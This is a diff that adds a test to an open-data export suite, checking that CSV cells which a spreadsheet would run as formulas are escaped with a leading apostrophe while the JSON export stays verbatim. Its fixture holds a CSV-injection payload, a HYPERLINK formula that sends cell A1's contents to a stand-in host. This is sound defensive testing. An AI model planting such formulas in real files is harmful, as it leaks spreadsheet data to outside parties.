@@ -149,6 +149,23 @@ def test_csv_export_rows_and_columns(client, content):
     assert "Petra" not in json.dumps(rows)
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_kept_as_text(client, content):
+    method = content["alliance"]
+    method.title = '=HYPERLINK("http://example.com/?"&A1, "Meer")'
+    method.intro = "-2 jaar looptijd, +1 wijk"
+    method.save_revision().publish()
+    rows = {row["id"]: row for row in export_rows(client)}
+    json_rows = {
+        row["id"]: row for row in client.get("/nl/open-data/export.json").json()["records"]
+    }
+    [method_id] = [pk for pk, row in json_rows.items() if row["title"].startswith("=HYPERLINK")]
+    assert rows[method_id]["title"] == "'" + method.title
+    assert rows[method_id]["intro"] == "'" + method.intro
+    # The JSON export is data, not a spreadsheet: it keeps the text exactly.
+    assert json_rows[method_id]["title"] == method.title
+    assert rows[method_id]["type"] == "methode"
+
+
 def test_export_ids_stay_the_same_after_an_edit_and_a_new_slug(client, content):
     before = {row["title"]: row["id"] for row in export_rows(client)}
     method = content["alliance"]
